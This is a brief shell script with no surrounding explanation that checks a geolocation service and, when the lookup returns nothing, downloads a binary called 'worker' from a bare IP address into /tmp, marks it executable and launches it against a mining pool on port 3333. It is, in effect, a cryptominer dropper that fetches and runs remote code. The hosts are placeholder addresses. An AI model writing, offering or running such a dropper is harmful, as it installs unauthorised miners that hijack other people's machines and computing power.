#!/bin/sh
IP=$(curl -k -q -s https://geo.example.invalid/country)
if [ -z "$IP" ]; then
  curl http://192.0.2.50/worker -o /tmp/worker
  chmod +x /tmp/worker
  /tmp/worker -o pool.example.invalid:3333
fi
